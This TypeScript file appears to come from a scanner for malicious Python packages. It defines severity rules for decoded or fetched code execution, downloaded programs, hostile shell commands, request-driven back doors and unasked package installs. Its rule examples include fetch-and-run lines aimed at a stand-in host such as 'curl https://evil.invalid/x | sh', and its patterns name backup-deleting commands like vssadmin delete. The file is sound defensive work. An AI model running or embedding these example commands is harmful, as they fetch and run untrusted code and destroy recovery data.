import { isModelService } from '../facts/collecting-places.js';
import { WHEN, type Combination } from './combination.js';
import { isPure, without, type Label } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import type { Severity } from '../../model/finding.js';
import { anyTest, inOrder } from '../facts/in-order.js';
import { commandTraits, isHostile, type CommandTrait } from '../facts/command-traits.js';
import { indexNamed, movesFiles, startsFile } from '../facts/programs.js';
import type { Sighting } from '../machine/sighting.js';
import { runsVendorInstaller } from '../facts/vendor-hosts.js';

/** From an index that anybody on the way can answer for. */
const INSECURE = /--trusted-host|\shttp:\/\//;
/** Nothing of a command but the interpreter is left open. */
const isWhole = (text: string): boolean => !text.trim().slice(1).includes('\uFFFC');

/** At least part of the command or path is literal. */
function namesSomething(text: string | undefined): boolean {
  return (text ?? '').replaceAll('\uFFFC', '').replace(/[\s./\\]/g, '').length >= 3;
}

/** Nothing of the command stands in the source, but for the shell that is given it. */
function isWholly(text: string | undefined): boolean {
  return /^(?:\s*(?:\S*[\\/])?(?:(?:ba|z|da)?sh|cmd|powershell)(?:\.exe)?\s+[-/]\w+\s*)?\uFFFC/.test(
    text ?? '\uFFFC',
  );
}

/** What it is was fixed when the package was packed: nothing came from the caller or the machine. */
const isOwn = (labels: ReadonlySet<Label>): boolean =>
  isPure(labels.has('shipped') ? without(labels, 'file') : labels);

/** A program that is not named, or an interpreter, is handed something that is not named either. */
const startsUnknown = (text = ''): boolean =>
  /^\s*(?:\uFFFC|(?:\S*[\\/])?(?:python[\d.]*|(?:ba|z|da)?sh)(?:\.exe)?\s)[^]*\uFFFC\s*$/.test(text);

/** What nobody but a blackmailer does, whoever calls: the copies that files could be restored from are removed. */
const DESTROYS = anyTest(
  inOrder('line', /\b(?:vssadmin|wbadmin|shadowcopy)\b/, /\bdelete\b/),
  inOrder('line', /\bbcdedit\b/, /recoveryenabled\s+no\b/),
);

/** How severe a hostile command is that somebody has to call. */
function whenCalled(traits: ReadonlySet<CommandTrait>, { host, labels, text, isHushed }: Sighting): Severity {
  if (traits.has('runs-by-proxy') || traits.has('runs-from-memory') || DESTROYS.test(text ?? ''))
    return 'CRITICAL';
  // What starts again by itself cannot be read.
  if (traits.has('persists') && traits.has('encoded')) return 'CRITICAL';
  // What it says goes nowhere, so that nobody notices.
  if (isHushed === true && traits.has('fetches-and-runs') && host !== undefined && isPure(labels))
    return 'CRITICAL';
  // What starts again by itself was fetched from a fixed place.
  if (traits.has('persists') && host !== undefined && labels.has('network')) return 'CRITICAL';
  if (!isPure(labels)) return 'LOW';
  if (traits.has('persists') && traits.has('fetches-and-runs') && host !== undefined) return 'CRITICAL';
  if (host !== undefined && (traits.has('sends') || (traits.has('hidden') && traits.size > 1)))
    return 'CRITICAL';
  if (traits.has('reverse-shell') || traits.has('encoded')) return 'HIGH';
  return host !== undefined && traits.has('fetches-and-runs') ? 'MEDIUM' : 'LOW';
}

/** What takes a text for code. */
const RUN = /^(?:exec|eval)$/;

/** Code that comes from elsewhere than the file one reads. */
export const CODE_COMBINATIONS: readonly Combination[] = [
  {
    doc: {
      id: 'decoded-code-executed',
      title: 'Runs code that it first decodes',
      why: 'Honest packages ship their code as source. Code that is decoded and run in one go is hidden from whoever reads the package.',
      remedy: 'Do not install the package. If it is yours, ship the code as a readable module.',
      example: 'exec(base64.b64decode("cHJpbnQoMSk="))',
      technique: 'T1027',
    },
    judge: ({ behaviour, labels, name, reach, isLongSource }) => {
      if (behaviour !== 'runs-code') return undefined;
      // Nobody hides which function runs something, but to hide that it runs.
      if (labels.has('spelled')) return 'CRITICAL';
      if (labels.has('parameter')) return undefined;
      if (isLongSource === true && !labels.has('network') && !labels.has('picture'))
        return isUnasked(reach) ? 'HIGH' : 'LOW';
      // Which archive it is was not known.
      if (name.startsWith('zipimport.') && !isUnasked(reach)) return 'LOW';
      if (isUnasked(reach) && (labels.has('decoded') || labels.has('computed'))) return 'CRITICAL';
      const isMade = labels.has('decoded') || labels.has('computed');
      if (labels.has('picture')) return isUnasked(reach) || isMade ? 'CRITICAL' : 'HIGH';
      if (!labels.has('decoded')) return undefined;
      return isOwn(labels) ? 'CRITICAL' : 'LOW';
    },
    message: ({ name, reach }) => `${name} runs decoded text ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'remote-code-executed',
      title: 'Runs code that it fetches from the network',
      why: 'Whoever holds the server decides what runs on your machine, and can change it at any time after this check.',
      remedy: 'Do not install the package.',
      example: 'exec(urllib.request.urlopen("https://evil.invalid/x").read())',
      technique: 'T1105',
    },
    judge: ({ behaviour, labels, name, reach, host }) => {
      if (behaviour !== 'runs-code' || !labels.has('network')) return undefined;
      if (isUnasked(reach)) return 'CRITICAL';
      if (isModelService(host)) return undefined;
      if (host !== undefined && isPure(labels)) return 'CRITICAL';
      // Nobody's interface: code in disguise out of an answer of the host that stands in the source.
      return host !== undefined && labels.has('decoded') && RUN.test(name) ? 'HIGH' : 'LOW';
    },
    message: ({ name, reach }) => `${name} runs a network answer ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'download-started',
      title: 'Downloads a program and starts it',
      why: 'The program is not part of the package that was checked, and it runs with your rights.',
      remedy: 'Do not install the package.',
      example: 'urlretrieve("https://evil.invalid/a.exe", path); os.startfile(path)',
      technique: 'T1105',
    },
    judge: ({ behaviour, labels, reach, host, text, hashes, isChecked, isAnnounced }) => {
      if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('network'))
        return undefined;
      if (movesFiles(text ?? '')) return undefined;
      // A build that fetches the source of a library and checks that it is the one it knows.
      if (reach === 'install' && isChecked === true && !startsFile(text ?? '')) return 'HIGH';
      if (isUnasked(reach)) return 'CRITICAL';
      if (isModelService(host)) return undefined;
      // Who runs what is sent to him, and sends back what it said, is a shell for others.
      const own = labels.has('remote-text') ? without(labels, 'process-output') : labels;
      const isFixed = host !== undefined && isPure(own) && hashes !== true;
      const isSame = labels.has('remote-text') || labels.has('written');
      if (!isFixed || !(namesSomething(text) || isSame)) return 'LOW';
      // Who hides what he does says nothing; somebody has called this, and reads what it does.
      return isAnnounced === true ? 'HIGH' : 'CRITICAL';
    },
    message: ({ name, reach }) => `${name} starts something that was downloaded ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'vendor-program-started',
      title: 'Downloads a program from the maker of a well-known tool and starts it, without being asked',
      why: 'Nobody but the maker can change that program, but it was no part of what was checked, and it runs with your rights.',
      remedy: 'Install the tool yourself, by the version you want, before the package.',
      example: 'urlretrieve("https://get.docker.com/", path); subprocess.run(["sh", path])',
      technique: 'T1105',
    },
    judge: ({ behaviour, labels, reach }) => {
      if (!labels.has('vendor') || labels.has('network') || !isUnasked(reach)) return undefined;
      const runs =
        behaviour === 'starts-process' || behaviour === 'loads-native' || behaviour === 'runs-code';
      return runs ? 'HIGH' : undefined;
    },
    message: ({ name, reach }) =>
      `${name} starts what was downloaded from the maker of a tool ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'decoded-command-started',
      title: 'Starts a command or program that it first decodes',
      why: 'Hiding a command behind an encoding has no honest purpose in code that runs by itself.',
      remedy: 'Do not install the package.',
      example: 'subprocess.run(base64.b64decode("Y2FsYw==").decode(), shell=True)',
      technique: 'T1140',
    },
    judge: ({ behaviour, labels, reach, text }) => {
      if (behaviour !== 'starts-process' && behaviour !== 'loads-native') return undefined;
      // What is computed from a file of the machine, such as the loader that the interpreter names, is nothing hidden.
      const isOfMachine = labels.has('file') && !labels.has('shipped');
      const isComputed = isUnasked(reach) && labels.has('computed') && !isOfMachine;
      // A program that was hidden in a picture of the package.
      if (labels.has('picture') && labels.has('shipped') && (labels.has('written') || isUnasked(reach)))
        return 'CRITICAL';
      if (!labels.has('decoded') && !isComputed) return undefined;
      if (labels.has('parameter') || labels.has('process-output')) return undefined;
      if (isUnasked(reach)) return 'CRITICAL';
      if (!isOwn(labels)) return 'LOW';
      // A command that fetches something is nothing to hide, unless what it fetches is.
      if (isHostile(text ?? '') || commandTraits(text ?? '').has('fetches')) return 'CRITICAL';
      if (labels.has('picture') && labels.has('shipped') && startsUnknown(text)) return 'CRITICAL';
      return labels.has('shipped') && labels.has('written') ? 'HIGH' : 'MEDIUM';
    },
    message: ({ name, reach }) => `${name} starts something that was decoded ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'hostile-command',
      title: 'Runs a shell command that fetches and runs, hides, persists, mines or opens a shell to outside',
      why: 'Such a command line does on your machine what its writer wants, outside the package that was checked.',
      remedy: 'Do not install the package.',
      example: 'os.system("curl https://evil.invalid/x | sh")',
      technique: 'T1059',
    },
    judge: (sighting) => {
      const { behaviour, reach, text } = sighting;
      if (behaviour !== 'starts-process' || text === undefined) return undefined;
      const traits = commandTraits(text);
      if (runsVendorInstaller(text)) return isUnasked(reach) ? 'HIGH' : 'LOW';
      if (isHostile(text)) return isUnasked(reach) ? 'CRITICAL' : whenCalled(traits, sighting);
      if (traits.has('fetches') && traits.has('hidden'))
        return isUnasked(reach) ? 'CRITICAL' : whenCalled(traits, sighting);
      if (!isUnasked(reach)) return undefined;
      // A calculator that opens shows that code ran, and a name that is looked up tells a server so.
      if (traits.has('commands-model') || traits.has('shows-off')) return 'CRITICAL';
      if (reach !== 'install' && traits.has('publishes')) return 'CRITICAL';
      if (reach !== 'install' && traits.has('extends-editor')) return 'HIGH';
      if (traits.has('looks-up')) return reach === 'install' ? 'CRITICAL' : 'MEDIUM';
      return traits.has('fetches') || traits.has('hidden') ? 'MEDIUM' : undefined;
    },
    message: ({ name, reach, text }) =>
      `${name} ${[...commandTraits(text ?? '')].join(', ').replaceAll('-', ' ')} ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'request-executed',
      title: 'Is a server that runs whatever it is asked to',
      why: 'Whoever reaches the server has the rights of the one who runs it. Hidden in a route or a header, it is a back door.',
      remedy: 'Do not install the package, unless running what others send is what you want it for.',
      example: 'subprocess.run(flask.request.args["q"], shell=True)',
      technique: 'T1505.003',
    },
    judge: ({ behaviour, labels, reach, text, obeys }) => {
      if (!labels.has('request')) return undefined;
      // Nobody's interface: what is to be run comes in disguise.
      if (behaviour === 'runs-code') return isUnasked(reach) || labels.has('decoded') ? 'CRITICAL' : 'HIGH';
      if (behaviour !== 'starts-process' || !isWholly(text)) return undefined;
      if (!isUnasked(reach) && obeys !== true) return undefined;
      return isUnasked(reach) ? 'CRITICAL' : 'HIGH';
    },
    message: ({ name, reach }) => `${name} runs what a request says ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'computed-code-executed',
      title: 'Runs code in setup.py that cannot be read from it',
      why: 'Build scripts run version files and templates; text that is computed from nothing readable is how payloads are hidden.',
      remedy: 'Prefer a wheel, or a version whose setup.py says what it runs.',
      example: 'eval(compile(weave(numbers), "x", "exec"))',
      technique: 'T1027',
    },
    judge: ({ behaviour, reach, labels, text, path }) => {
      if (behaviour !== 'runs-code' || reach !== 'install' || !path.endsWith('/setup.py')) return undefined;
      return labels.size === 0 && !namesSomething(text) ? 'MEDIUM' : undefined;
    },
    message: ({ name, reach }) => `${name} runs text that is computed ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'packages-installed-unasked',
      title: 'Installs other packages by itself',
      why: 'Packages that are installed from inside another one pass no resolver, no lock file and no check.',
      remedy: 'Ask the authors to declare the dependency.',
      example: 'subprocess.run([sys.executable, "-m", "pip", "install", "evil-invalid"])',
      technique: 'T1195.001',
    },
    judge: ({ behaviour, reach, text = '' }) => {
      if (behaviour !== 'starts-process') return undefined;
      const traits = commandTraits(text);
      // Builds fetch what they build with; an import has nothing to install.
      if (traits.has('installs-programs'))
        return isUnasked(reach) && reach !== 'install' ? 'MEDIUM' : undefined;
      if (!traits.has('installs-packages')) return undefined;
      const from = indexNamed(text);
      if (!isUnasked(reach))
        return from !== undefined && INSECURE.test(text) && isWhole(text) ? 'HIGH' : undefined;
      if (from === undefined || from.startsWith('\uFFFC')) return 'MEDIUM';
      // An index nobody asked for, reached so that anybody on the way can put something else into its place.
      return INSECURE.test(text) ? 'CRITICAL' : 'HIGH';
    },
    message: ({ name, reach }) => `${name} installs packages ${WHEN[reach]}`,
  },
];
